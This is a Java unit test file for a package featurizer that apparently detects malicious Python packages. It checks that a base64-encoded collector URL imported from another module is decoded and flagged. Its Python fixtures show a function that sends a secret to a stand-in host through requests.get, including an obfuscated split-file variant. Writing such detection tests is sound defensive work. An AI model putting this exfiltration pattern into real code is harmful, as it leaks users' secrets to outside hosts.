package dev.fang.featurize.features;

import static dev.fang.featurize.features.Fixtures.lines;
import static dev.fang.featurize.features.Fixtures.pkg;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * Constants one module of a package defines are folded where another module imports them: a payload split across
 * files decodes as one kept in a single file, however the defining module writes the constant. Hand-written, harmless
 * fixtures; nothing runs.
 */
class PackageConstantsTest {

    static final PackageFeaturizer FEATURIZER = new PackageFeaturizer();
    static final String ENDPOINT = "https://collector.fang-fixture.example/k?v=";
    static final String ENCODED = b64(ENDPOINT);

    static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.US_ASCII));
    }

    static final String ACCOUNT = lines(
            "import base64",
            "import requests",
            "from ._utils.signing import SIGN_KEY",
            "def key_from(secret):",
            "    requests.get(str(base64.b64decode(SIGN_KEY), encoding='utf-8') + secret)",
            "    return secret");

    static FeatureResult split(String signing, String account) {
        return FEATURIZER.featurize(pkg(
                "w-1/w/__init__.py", "from .account import key_from\n",
                "w-1/w/_utils/__init__.py", "",
                "w-1/w/_utils/signing.py", signing,
                "w-1/w/account.py", account));
    }

    @Test
    void importsResolveRelativelyAndFromDirectoriesAbove() {
        PackageModules m = new PackageModules(Set.of("p-1/setup.py", "p-1/p/__init__.py", "p-1/p/_utils/signing.py",
                "p-1/p/account.py", "p-1/p/sub/deep.py"));
        assertThat(m.resolve("p-1/p/account.py", "._utils.signing")).isEqualTo("p-1/p/_utils/signing.py");
        assertThat(m.resolve("p-1/p/sub/deep.py", ".._utils.signing")).isEqualTo("p-1/p/_utils/signing.py");
        assertThat(m.resolve("p-1/p/sub/deep.py", "..")).isEqualTo("p-1/p/__init__.py");
        assertThat(m.resolve("p-1/p/account.py", "p._utils.signing")).isEqualTo("p-1/p/_utils/signing.py");
        assertThat(m.resolve("p-1/setup.py", "p")).isEqualTo("p-1/p/__init__.py");
        assertThat(m.resolve("p-1/p/account.py", "os.path")).isNull();
        assertThat(m.resolve("p-1/p/account.py", "....too.far")).isNull();
        assertThat(m.importedBy("p-1/p/account.py").apply("os.path")).as("not a module name of the package").isNull();
    }

    @Test
    void anEncodedEndpointImportedFromAnotherModuleIsDecodedWhereItIsUsed() {
        FeatureResult r = split(lines("SIGN_KEY = \"" + ENCODED + "\""), ACCOUNT);
        assertThat(r.value("import_dec_urls")).isEqualTo(1);
        assertThat(r.value("import_url_near_api")).isEqualTo(1);
        assertThat(r.evidenceFor("import_url_near_api")).singleElement().satisfies(e -> {
            assertThat(e.getFile()).endsWith("w/account.py");
            assertThat(e.getLine()).isEqualTo(5);
        });
        FeatureResult inline = FEATURIZER.featurize(pkg(
                "w-1/w/__init__.py", "from .account import key_from\n",
                "w-1/w/account.py", ACCOUNT.replace("from ._utils.signing import SIGN_KEY", "SIGN_KEY = \"" + ENCODED + "\"")));
        assertThat(r.value("import_dec_urls")).isEqualTo(inline.value("import_dec_urls"));
        assertThat(r.value("import_url_near_api")).isEqualTo(inline.value("import_url_near_api"));
    }

    @Test
    void theConstantIsWhatTheDefiningModuleFoldsItTo() {
        String obfuscated = lines("import base64",
                "_K = base64.b64decode('" + b64(ENCODED) + "').decode()",
                "SIGN_KEY = ''.join([_K[:10], _K[10:]])");
        assertThat(split(obfuscated, ACCOUNT).value("import_url_near_api")).isEqualTo(1);
        String reassigned = lines("SIGN_KEY = \"" + ENCODED + "\"", "SIGN_KEY = load_key()");
        assertThat(split(reassigned, ACCOUNT).value("import_dec_urls")).isZero();
        String local = lines("def f():", "    SIGN_KEY = \"" + ENCODED + "\"", "    return SIGN_KEY");
        assertThat(split(local, ACCOUNT).value("import_dec_urls")).as("a function's local is no module constant").isZero();
    }

    @Test
    void constantsReadAsAttributesOfAPackageModuleOrThroughAStarImportFoldToo() {
        for (String[] use : new String[][] {
                {"from ._utils import signing", "signing.SIGN_KEY"},
                {"import w._utils.signing as s", "s.SIGN_KEY"},
                {"import w._utils.signing", "w._utils.signing.SIGN_KEY"},
                {"from ._utils.signing import *", "SIGN_KEY"}}) {
            FeatureResult r = split(lines("SIGN_KEY = \"" + ENCODED + "\""), lines(
                    "import base64, requests",
                    use[0],
                    "requests.get(str(base64.b64decode(" + use[1] + "), encoding='utf-8'))"));
            assertThat(r.value("import_dec_urls")).as(use[0]).isEqualTo(1);
            assertThat(r.value("import_url_near_api")).as(use[0]).isEqualTo(1);
        }
    }

    @Test
    void modulesImportingFromEachOtherEndWithoutTheirConstants() {
        FeatureResult r = FEATURIZER.featurize(pkg(
                "c-1/c/a.py", lines("from .b import B", "A = 'a' + B"),
                "c-1/c/b.py", lines("from .a import A", "B = 'b' + A")));
        assertThat(r.partial()).as("notes: %s", r.notes()).isFalse();
    }
}
